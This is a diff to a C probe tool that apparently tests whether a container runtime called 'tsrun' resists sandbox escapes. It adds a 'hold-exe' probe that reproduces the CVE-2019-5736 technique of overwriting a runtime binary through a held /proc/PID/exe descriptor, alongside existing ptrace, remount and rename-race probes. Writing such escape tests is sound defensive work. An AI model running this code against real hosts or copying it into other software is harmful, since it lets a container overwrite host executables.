@@ -17,6 +17,9 @@
  *   probe snoop S            for S seconds, watch every other process that appears: try to read where its
  *                            /proc/PID/exe points, to open that for writing, and to ptrace it; print how
  *                            many processes it saw and what reached a process that was still tsrun's shim
+ *   probe hold-exe PID TEXT  open /proc/PID/exe for reading and print "held"; once PID runs another
+ *                            program, open the held file for writing through /proc/self/fd and write
+ *                            TEXT: print "written", or the errno name (CVE-2019-5736's way in)
  *   probe remount-rw PATH    try to make the mount at PATH writable: print "ok" or the errno name
  *   probe swap A B           (on the host) exchange the names A and B (renameat2) as fast as it can, forever
  *   probe fd-receiver SOCKET OUT
@@ -66,6 +69,8 @@ static const char *errname(int err)
 	case EEXIST: return "EEXIST";
 	case ENOTDIR: return "ENOTDIR";
 	case EISDIR: return "EISDIR";
+	case ETXTBSY: return "ETXTBSY";
+	case EXDEV: return "EXDEV";
 	default: return "EOTHER";
 	}
 }
@@ -408,6 +413,29 @@ static void snoop(int seconds)
 	printf("{\"seen\":%d,\"exe_read\":%d,\"exe_written\":%d,\"attached\":%d}\n", seen, exe_read, exe_written, attached);
 }
 
+static int hold_exe(const char *pid, const char *text)
+{
+	char exe[64], self[64], before[256] = "", now[256] = "";
+	snprintf(exe, sizeof(exe), "/proc/%s/exe", pid);
+	int fd = open(exe, O_RDONLY | O_CLOEXEC);
+	if (fd < 0 || readlink(exe, before, sizeof(before) - 1) < 0) {
+		printf("%s\n", errname(errno));
+		return 1;
+	}
+	printf("held\n");
+	fflush(stdout);
+	for (int i = 0; i < 20000 && readlink(exe, now, sizeof(now) - 1) > 0 && !strcmp(now, before); i++)
+		usleep(1000);
+	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
+	int w = open(self, O_WRONLY | O_CLOEXEC);
+	if (w < 0 || write(w, text, strlen(text)) < 0) {
+		printf("%s\n", errname(errno));
+		return 1;
+	}
+	printf("written\n");
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOFBF, 1 << 16);
@@ -434,6 +462,8 @@ int main(int argc, char **argv)
 		return 1;
 	} else if (!strcmp(cmd, "snoop") && argc == 3) {
 		snoop(atoi(argv[2]));
+	} else if (!strcmp(cmd, "hold-exe") && argc == 4) {
+		return hold_exe(argv[2], argv[3]);
 	} else if (!strcmp(cmd, "remount-rw") && argc == 3) {
 		int rc = mount(NULL, argv[2], NULL, MS_REMOUNT | MS_BIND, NULL);
 		printf("%s\n", rc == 0 ? "ok" : errname(errno));
